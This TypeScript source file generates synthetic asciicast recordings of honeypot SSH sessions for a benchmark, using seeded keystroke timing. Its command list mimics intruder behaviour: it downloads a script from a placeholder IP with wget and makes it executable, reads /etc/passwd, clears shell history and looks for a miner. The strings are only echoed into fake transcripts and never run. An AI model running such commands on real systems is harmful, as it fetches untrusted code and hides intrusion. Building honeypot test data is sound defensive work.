// Deterministic asciicast v2 recordings of honeypot shell sessions for the sessions benchmark: a
// prompt, commands typed key by key with log-normal inter-key intervals, each key echoed by the
// shell a fraction of a millisecond later, Enter, a few lines of output, think time, the next
// command. A pure function of the seed. The texts are typical in size for a honeypot session
// (≈ 200 keystrokes, ≈ 20 KiB), not a model of any typist.

import { Prng } from './pcapgen/prng.js';

const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | head -n 1',
  'free -m',
  'ls -la /tmp',
  'wget http://203.0.113.9/x.sh -O /tmp/x.sh',
  'chmod +x /tmp/x.sh',
  'cd /var/tmp',
  'ps aux | grep -v grep | grep miner',
  'crontab -l',
  'cat /etc/passwd',
  'whoami',
  'history -c',
  'nproc',
  'df -h',
  'echo ok > /dev/null',
] as const;

const PROMPT = 'root@decky-01:~# ';

/** A log-normal sample with the given median (seconds) and shape. */
function logNormal(r: Prng, median: number, sigma: number): number {
  return median * Math.exp(sigma * r.normal());
}

/** One recording: about `keystrokes` typed keys. The attacker address is in the header. */
export function syntheticSession(seed: number, keystrokes = 200): string {
  const r = new Prng(seed);
  const t0 = 1_764_000_000 + (seed % 86_400);
  const ip = `198.51.${(seed >>> 8) & 255}.${seed & 255}`;
  const header = {
    version: 2,
    width: 80,
    height: 24,
    timestamp: t0,
    env: { SHELL: '/bin/bash', TERM: 'xterm-256color' },
    attacker_ip: ip,
    honeypot: 'decky-01',
    service: 'ssh',
  };
  const lines = [JSON.stringify(header)];
  let t = 0.05;
  const ev = (code: string, data: string) => lines.push(JSON.stringify([Number(t.toFixed(6)), code, data]));
  ev('o', PROMPT);
  const typistMedian = 0.12 + r.float() * 0.15; // seconds between keys
  let typed = 0;
  while (typed < keystrokes) {
    t += logNormal(r, 1.5, 0.8); // think
    const cmd = COMMANDS[r.int(COMMANDS.length)]!;
    for (const ch of cmd) {
      ev('i', ch);
      t += 0.0004;
      ev('o', ch);
      t += logNormal(r, typistMedian, 0.45);
      typed++;
    }
    ev('i', '\r');
    typed++;
    t += 0.0004;
    ev('o', '\r\n');
    t += 0.01 + r.float() * 0.2;
    const outLines = 1 + r.int(6);
    for (let i = 0; i < outLines; i++) ev('o', `output line ${i} of ${cmd.split(' ')[0]} ...........\r\n`);
    ev('o', PROMPT);
  }
  t += 0.5;
  ev('i', '\x04');
  ev('o', 'logout\r\n');
  return `${lines.join('\n')}\n`;
}
